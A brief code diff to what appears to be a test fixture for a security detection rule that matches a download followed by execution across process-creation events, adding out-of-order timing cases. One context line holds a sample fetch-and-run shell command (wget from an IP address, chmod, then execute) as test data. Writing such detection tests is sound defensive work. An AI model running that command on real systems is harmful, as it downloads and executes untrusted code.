@@ -231,6 +231,8 @@ def sequences():
     log.send("negative-before", "ProcessCreate", run).send("negative-before", "ProcessCreate", get, 5)
     log.send("negative-one-line", "ProcessCreate", process("wget -O /tmp/x http://203.0.113.5/x; chmod +x /tmp/x; /tmp/x"))
     log.send("late", "ProcessCreate", get, delay=WINDOW + 1).send("late", "ProcessCreate", run, 5, delay=WINDOW + 1)
+    for device, second in (("positive-out-of-order", 0), ("negative-out-of-order", 31)):
+        log.send(device, "ProcessCreate", run, 30).send(device, "ProcessCreate", get, second, delay=60)
     for device, again in (("duplicate", 60), ("replayed", DAY)):
         events = [log.event("ProcessCreate", get, 0), log.event("ProcessCreate", run, 10)]
         log.message(device, 11, *events).message(device, 11 + again, *events)
